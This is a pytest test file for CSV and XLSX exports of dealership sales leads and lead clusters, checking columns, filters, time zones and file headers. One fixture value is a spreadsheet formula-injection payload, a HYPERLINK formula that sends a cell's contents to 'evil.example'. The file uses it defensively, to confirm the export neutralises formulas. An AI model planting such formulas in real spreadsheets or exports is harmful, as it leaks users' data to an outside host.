"""Leads and lead clusters as CSV and XLSX: all that the same filters list, told as the list tells it."""

from __future__ import annotations

from datetime import datetime
from typing import TYPE_CHECKING, Any
from zoneinfo import ZoneInfo

import httpx
import pytest

from forecourt.clusters.answers import LeadClusterOut
from forecourt.exports.sheets import LEAD_CLUSTERS
from forecourt.exports.sheets import LEADS as LEAD_SHEET
from forecourt.leads.answers import LeadOut
from tests.clusters.asking import act, cluster, enquiry, put
from tests.conftest import bearer
from tests.exports.asking import CLUSTERS, LEADS, cells_of, exported, rows_of, sheet_of
from tests.world import LEAD

if TYPE_CHECKING:
    from tests.world import World

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
MIA = {
    "name": "Mia",
    "last_name": FORMULA,
    "email": "mia@example.net",
    "phone": "0412 345 999",
    "message": 'One, "two"\nthree; naïve 東京 😀',
    "dob": "01/02/1980",
    "category": "Test Drive Booking",
    "location_id": 101,
    "stocknum": "STOCK1",
    "user_email": "user1@example.com",
    "website_slug": "site-1",
    "tags": ["fleet", "vip"],
    "golden": True,
    "address_attributes": {"street": "1 High St", "city": "Cairns", "postcode": "0800"},
    "payment_attributes": {"amount": 1500.5, "payment_processor_id": 7, "external_transaction_id": "T-1"},
    "lead_files_attributes": [
        {"file": "data:text/plain;name=note.txt;base64,aGVsbG8=", "file_type": "other"}
    ],
    "fields": {"colour": "red"},
    "shoe_size": 43,
}


@pytest.fixture(scope="module")
async def leads(api: httpx.AsyncClient, world: World) -> list[dict[str, Any]]:
    """Leads of five customers; the newest in front."""
    mia = await enquiry(api, **MIA)
    model = {"model_id": 701, "model_variant_id": 801, "colour_id": 901}
    leo = await enquiry(api, name="Leo", category="New Vehicle Enquiry", source="Facebook", **model)
    sam = await enquiry(api, name="Kim", category="Team Member Enquiry", team_member_id=401)
    rest = [await enquiry(api, name=name, source="SMS") for name in ("Ann", "Bob")]
    await put(api, leo["lead_cluster_id"], user_id=501, lead_state="contacted", car_ids=[601, 611])
    await act(api, mia["lead_cluster_id"], "activities", activity={"kind": "call", "body": "rang"})
    await act(api, rest[0]["lead_cluster_id"], "merge", lead_cluster_id=rest[1]["lead_cluster_id"])
    # One of daylight saving: the other dealerships are in Queensland, which has none.
    await world.run("update dealership set timezone = 'Australia/Sydney' where id = 1")
    listed = (await api.get(LEADS, params={"limit": 200})).json()["leads"]
    assert {mia["id"], sam["id"]} <= {lead["id"] for lead in listed}
    return list(listed)


def by_id(rows: list[dict[str, Any]], ident: int) -> dict[str, Any]:
    [row] = [row for row in rows if str(row["id"]) == str(ident)]
    return row


def as_told(value: Any) -> str:
    """What JSON has, as a CSV has it."""
    if isinstance(value, list):
        return ", ".join(map(str, value))
    if isinstance(value, bool):
        return str(value).lower()
    return "" if value is None else str(value)


async def test_every_field_of_a_lead_is_in_its_row(
    api: httpx.AsyncClient, leads: list[dict[str, Any]]
) -> None:
    rows = await exported(api, LEADS)

    assert [row["id"] for row in rows] == [str(lead["id"]) for lead in leads]
    told_otherwise = {"created_at", "updated_at", "opt_in_to_marketing_at", "dob"}
    for lead, row in zip(leads, rows, strict=True):
        for name in (
            (lead.keys() & row.keys()) - told_otherwise - {"fields", "extra", "lead_files_attributes"}
        ):
            assert row[name] == as_told(lead[name]), name
        local = datetime.fromisoformat(lead["created_at"]).astimezone(ZoneInfo("Australia/Sydney"))
        assert row["created_at"] == local.isoformat(timespec="seconds")
        assert row["created_at"].endswith("+11:00")


async def test_ids_are_told_with_what_they_mean(api: httpx.AsyncClient, leads: list[dict[str, Any]]) -> None:
    rows = await exported(api, LEADS)
    mia, leo, kim = (next(row for row in rows if row["name"] == name) for name in ("Mia", "Leo", "Kim"))

    assert leads
    assert (mia["location_name"], mia["car_name"], mia["user_name"]) == ("Yard", "Car", "User")
    assert (leo["model_name"], leo["model_variant_name"], leo["colour_name"]) == ("Ranger", "XLT", "Red")
    assert kim["team_member_name"] == "Sam"
    assert mia["dob"] == "1980-02-01"
    assert mia["last_name"] == FORMULA
    assert mia["message"] == MIA["message"]
    assert (mia["address_attributes.city"], mia["address_attributes.postcode"]) == ("Cairns", "0800")
    assert (mia["payment_attributes.amount"], mia["payment_attributes.external_transaction_id"]) == (
        "1500.50",
        "T-1",
    )
    assert mia["lead_files_attributes"] == "note.txt"
    assert mia["fields"] == '{"colour":"red"}'
    assert mia["timezone"] == "Australia/Sydney"


async def test_a_formula_is_guarded_on_its_way(api: httpx.AsyncClient, leads: list[dict[str, Any]]) -> None:
    content = (await api.get(f"{LEADS}.csv")).content

    assert leads
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1)"' in content
    assert b'"\'+61412345999"' in content
    assert b",=" not in content
    assert b",+" not in content


async def test_a_workbook_has_real_dates_and_numbers_and_a_head_that_stays(
    api: httpx.AsyncClient, leads: list[dict[str, Any]]
) -> None:
    answer = await api.get(f"{LEADS}.xlsx")
    rows = cells_of(answer.content)
    sheet = sheet_of(answer.content)
    told = next(row for row in rows if row["name"] == "Mia")

    assert [row["id"] for row in rows] == [lead["id"] for lead in leads]
    lead = by_id(leads, told["id"])
    local = datetime.fromisoformat(lead["created_at"]).astimezone(ZoneInfo("Australia/Sydney"))
    assert told["created_at"] == local.replace(tzinfo=None, microsecond=0)
    assert told["dob"] == datetime(1980, 2, 1)  # noqa: DTZ001 - a cell has no time zone
    assert (told["payment_attributes.amount"], told["golden"]) == (1500.5, True)
    assert (told["last_name"], told["phone_e164"]) == (FORMULA, "+61412345999")
    assert (sheet.title, sheet.freeze_panes) == ("leads", "A2")
    assert sheet.auto_filter.ref == sheet.dimensions
    assert sheet.column_dimensions["S"].width > sheet.column_dimensions["A"].width
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


async def test_both_files_have_the_same_columns(api: httpx.AsyncClient, leads: list[dict[str, Any]]) -> None:
    assert leads
    for path, sheet in ((LEADS, LEAD_SHEET), (CLUSTERS, LEAD_CLUSTERS)):
        names = [column.name for column in sheet.columns]
        assert list(rows_of((await api.get(f"{path}.csv")).content)[0]) == names
        assert list(cells_of((await api.get(f"{path}.xlsx")).content)[0]) == names


async def test_every_field_of_the_answers_has_a_column() -> None:
    """What a sheet cannot hold is named here, so that a new field is not forgotten."""
    left_out = {"warnings", "payments", "by_hand", "conflicts", "leads", "consents"}
    for struct, sheet in ((LeadOut, LEAD_SHEET), (LeadClusterOut, LEAD_CLUSTERS)):
        told = {column.name.partition(".")[0] for column in sheet.columns}
        missing = set(struct.__struct_fields__) - told - left_out
        assert missing - {"lead_status_option_id"} == set(), struct


async def test_a_row_of_a_cluster_tells_the_customer_and_how_it_stands(
    api: httpx.AsyncClient, leads: list[dict[str, Any]]
) -> None:
    rows = await exported(api, CLUSTERS)
    listed = (await api.get(CLUSTERS, params={"limit": 200})).json()["lead_clusters"]
    mia, leo = (next(row for row in rows if row["contact.name"] == name) for name in ("Mia", "Leo"))
    whole = await cluster(api, int(mia["id"]))

    assert leads
    assert [row["id"] for row in rows] == [str(one["id"]) for one in listed]
    assert (mia["contact.emails"], mia["contact.phones"]) == ("mia@example.net", "+61412345999")
    assert mia["contact.dob"] == "1980-02-01"
    assert mia["contact.last_name"] == FORMULA
    assert (mia["last_lead_category"], mia["last_lead_source"]) == ("Test Drive Booking", "Website")
    assert mia["last_lead_id"] == str(whole["leads"][0]["id"])
    assert (mia["location_name"], mia["golden"], mia["tags"]) == ("Yard", "true", "fleet, vip")
    assert mia["first_response_seconds"] == str(whole["first_response_seconds"])
    assert mia["response_clock.answered_by"] == "call"
    assert mia["waiting_since"] == ""
    assert (leo["user.name"], leo["user.email"], leo["lead_state"]) == (
        "User",
        "user1@example.com",
        "contacted",
    )
    assert (leo["car_lead_clusters.name"], leo["car_ids"]) == ("Car, Spare car", "601, 611")
    [merged] = [row for row in rows if row["merged_lead_cluster_ids"]]
    assert merged["lead_count"] == "2"


@pytest.mark.parametrize(
    "query",
    [
        {"category": "test drive booking"},
        {"source": "SMS", "sort": "created_at"},
        {"tag": "vip", "golden": "true"},
        {"email": "MIA@example.net"},
        {"phone": "+61412345999"},
        {"dealership": "brisbane-motors", "updated_from": "2020-01-01T00:00:00Z"},
        {"sort": "updated_at"},
        {"state": "lost"},
        {"created_to": "2020-01-01T00:00:00Z"},
    ],
)
async def test_the_filters_of_the_list_are_those_of_the_file(
    query: dict[str, str], api: httpx.AsyncClient, leads: list[dict[str, Any]]
) -> None:
    assert leads
    listed = (await api.get(LEADS, params=query)).json()["leads"]

    assert [row["id"] for row in await exported(api, LEADS, **query)] == [str(lead["id"]) for lead in listed]
    answer = await api.get(f"{LEADS}.xlsx", params=query)
    assert [row["id"] for row in cells_of(answer.content)] == [lead["id"] for lead in listed]


@pytest.mark.parametrize(
    "query",
    [
        {"lead_state": "contacted"},
        {"golden": "false", "sort": "last_lead_created_at"},
        {"waiting": "true", "sort": "waiting_since"},
        {"user_id": "501"},
        {"unassigned": "true", "source": "SMS"},
        {"category": "Survey"},
    ],
)
async def test_the_filters_of_the_list_of_clusters_likewise(
    query: dict[str, str], api: httpx.AsyncClient, leads: list[dict[str, Any]]
) -> None:
    assert leads
    listed = (await api.get(CLUSTERS, params=query)).json()["lead_clusters"]

    assert [row["id"] for row in await exported(api, CLUSTERS, **query)] == [str(one["id"]) for one in listed]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("path", "query", "field"),
    [
        (LEADS, {"limit": "5"}, "limit"),
        (LEADS, {"cursor": "x"}, "cursor"),
        (LEADS, {"category": "Enquiry"}, "category"),
        (LEADS, {"dealership": "perth-autos"}, "dealership"),
        (CLUSTERS, {"limit": "5"}, "limit"),
        (CLUSTERS, {"q": "mia"}, "q"),
        (CLUSTERS, {"lead_state": "won"}, "lead_state"),
    ],
)
async def test_what_does_not_fit_is_named_before_a_file_begins(
    path: str, query: dict[str, str], field: str, ending: str, api: httpx.AsyncClient
) -> None:
    answer = await api.get(f"{path}.{ending}", params=query)

    assert (answer.status_code, answer.headers["content-type"]) == (400, "application/problem+json")
    assert field in {problem["field"] for problem in answer.json()["errors"]}


async def test_the_leads_of_several_dealerships_are_told_by_the_clock_of_each(
    server: str, world: World, leads: list[dict[str, Any]]
) -> None:
    assert leads
    async with httpx.AsyncClient(base_url=server, headers=bearer(world.group_token)) as group:
        await group.post(LEADS, json={"lead": LEAD | {"dealership_slug": "cairns-motors"}})
        answer = await group.get(f"{LEADS}.csv")
        alone = await group.get(f"{LEADS}.csv", params={"dealership": "cairns-motors"})

    offsets = {(row["dealership_slug"], row["created_at"][-6:]) for row in rows_of(answer.content)}
    assert offsets == {("brisbane-motors", "+11:00"), ("cairns-motors", "+10:00")}
    assert {row["dealership_slug"] for row in rows_of(alone.content)} == {"cairns-motors"}
    assert 'filename="leads-2' in answer.headers["content-disposition"]
    assert 'filename="leads-cairns-motors-2' in alone.headers["content-disposition"]


async def test_a_file_is_an_attachment_with_a_name_and_its_media_type(
    api: httpx.AsyncClient, leads: list[dict[str, Any]]
) -> None:
    assert leads
    day = f"{datetime.now(ZoneInfo('Australia/Sydney')):%Y-%m-%d}"
    for path, name in ((LEADS, "leads"), (CLUSTERS, "lead_clusters")):
        sent = await api.get(f"{path}.csv")
        assert sent.headers["content-type"] == "text/csv; charset=utf-8"
        assert sent.headers["transfer-encoding"] == "chunked"
        assert (
            f'attachment; filename="{name}-brisbane-motors-{day}.csv"' in sent.headers["content-disposition"]
        )
        book = await api.get(f"{path}.xlsx")
        assert (
            book.headers["content-type"]
            == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        assert f'filename="{name}-brisbane-motors-{day}.xlsx"' in book.headers["content-disposition"]
        for ending in ("csv", "xlsx"):
            head = await api.head(f"{path}.{ending}")
            assert (head.status_code, head.content) == (200, b"")
            assert "content-length" not in head.headers
            assert f".{ending}" in head.headers["content-disposition"]


async def test_a_list_without_rows_is_a_file_with_a_head(api: httpx.AsyncClient) -> None:
    query = {"email": "nobody@nowhere.example"}

    assert len((await api.get(f"{LEADS}.csv", params=query)).content.splitlines()) == 1
    assert sheet_of((await api.get(f"{LEADS}.xlsx", params=query)).content).max_row == 1
    assert sheet_of((await api.get(f"{CLUSTERS}.xlsx", params=query)).content).max_row == 1
